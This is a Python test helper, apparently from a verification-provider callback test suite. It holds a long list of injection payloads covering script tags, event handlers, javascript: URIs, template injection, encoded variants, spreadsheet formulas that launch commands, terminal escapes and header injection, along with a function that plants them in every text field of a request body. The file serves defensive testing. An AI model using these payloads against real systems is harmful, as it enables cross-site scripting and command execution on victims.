"""Texts that try to become more than text, and how they get into every text field of a body."""

import json
from collections.abc import Callable
from typing import Any

from verifications.callbacks import provider

# Each script would set window.hit or open a dialog, each element is marked with the word "hit".
# 7331 * 1337 = 9801547: no page may have reckoned.
PAYLOADS = [
    "<script>hit(1)</script>", "<ScRiPt>hit(2)</sCrIpT>", "<script src=//hit.example></script>",
    "<script/x>hit(3)</script>", "<scr<script>ipt>hit(4)</scr</script>ipt>",
    "</script><script>hit(5)</script>", "</title><script>hit(6)</script>",
    "</textarea><script>hit(7)</script>", "</template><script>hit(8)</script>",
    "</dialog></main><script>hit(9)</script>", "--><script>hit(10)</script><!--",
    "]]><script>hit(11)</script>", "<img class=hit src=x onerror=hit(12)>",
    "\"><img class=hit src=x onerror=hit(13)>", "'><img class=hit src=x onerror=hit(14)>",
    "<img class=hit src='javascript:hit(15)'>", "<svg class=hit onload=hit(16)>",
    "<svg class=hit><script>hit(17)</script></svg>", "\"><svg/class=hit/onload=hit(18)>",
    "<svg class=hit><animate onbegin=hit(19) attributeName=x dur=1s>",
    "<svg class=hit><a xlink:href=javascript:hit(20)><text y=9>x", "<math class=hit><mtext>",
    "<body class=hit onload=hit(21)>", "<iframe class=hit src=javascript:hit(22)>",
    "<iframe class=hit srcdoc='<script>parent.hit(23)</script>'>", "<object class=hit data=x>",
    "<embed class=hit src=x>", "<base class=hit href=//hit.example/>",
    "<link class=hit rel=stylesheet href=//hit.example/>", "<style class=hit>*{display:none}",
    "<meta class=hit http-equiv=refresh content='0;//hit.example'>",
    "<form class=hit action=//hit.example><button>", "<input class=hit autofocus onfocus=hit(24)>",
    "<details class=hit open ontoggle=hit(25)>", "<video class=hit><source onerror=hit(26)>",
    "<marquee class=hit onstart=hit(27)>", "<x class=hit tabindex=1 onfocus=hit(28) autofocus>",
    "\" onfocus=hit(29) autofocus class=\"hit", "' onfocus=hit(30) autofocus class='hit",
    "` onfocus=hit(31) autofocus class=`hit", "\" style=\"animation:x\" onanimationend=\"hit(32)",
    "javascript:hit(33)", "JaVaScRiPt:hit(34)", "java\tscript:hit(35)", "\tjavascript:hit(36)",
    "data:text/html,<script>hit(37)</script>", "vbscript:hit(38)", "//hit.example/hit",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */hit(39))//%0D%0A//<svg/class=hit/onload=hit(40)//>",
    "';hit(41)//\";hit(42)//--></script>\">'><script>hit(43)</script>",
    "{{7331*1337}}", "{{ 7331|add:1337 }}{% debug %}", "${7331*1337}", "#{7331*1337}",
    "<%= 7331*1337 %>", "{{constructor.constructor('hit(44)')()}}", "[[${7331*1337}]]",
    "&lt;script&gt;hit(45)&lt;/script&gt;", "&#60;script&#62;hit(46)&#60;/script&#62;",
    "\\u003cscript\\u003ehit(47)\\u003c/script\\u003e", "%3Cscript%3Ehit(48)%3C/script%3E",
    "+ADw-script+AD4-hit(49)+ADw-/script+AD4-", "\uff1cscript\uff1ehit(50)\uff1c/script\uff1e",
    "\u202e)15(tih:tpircsavaj\u202c", "hit\u200b\u200d\ufeff\u2060hit", "\u2066hit\u2069\u2067",
    "=HYPERLINK(\"//hit.example\",\"hit\")", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    "\x1b[2J\x1b]8;;//hit.example\x07hit", "\x9b31mhit", "hit\r\nSet-Cookie: hit=1",
]  # fmt: skip


# A word of these decides where a verification stands.
DECIDING = ("overall", "scanRef", "autoFace", "autoDocument", "manualFace", "manualDocument")


def spread(
    body: dict[str, Any],
    event: str,
    text: Callable[[], str],
    spared: tuple[str, ...] = DECIDING[:2],
) -> dict[str, Any]:
    """The body with a text in every place that takes one: where none is so far, too."""
    spread: dict[str, Any] = json.loads(json.dumps(body))
    for parent, key in list(_leaves(spread)):
        if key in spared:
            continue
        former, parent[key] = parent[key], text()
        if not _is_taken(spread, event):
            parent[key] = former
    return spread


def _leaves(node: Any) -> Any:
    steps = node.items() if isinstance(node, dict) else enumerate(node)
    for key, value in list(steps):
        if isinstance(value, dict | list) and value:
            yield from _leaves(value)
        elif value is None or isinstance(value, str):
            yield node, key


def _is_taken(body: dict[str, Any], event: str) -> bool:
    try:
        provider.read(json.dumps(body).encode(), event)
    except provider.Unreadable:
        return False
    return True
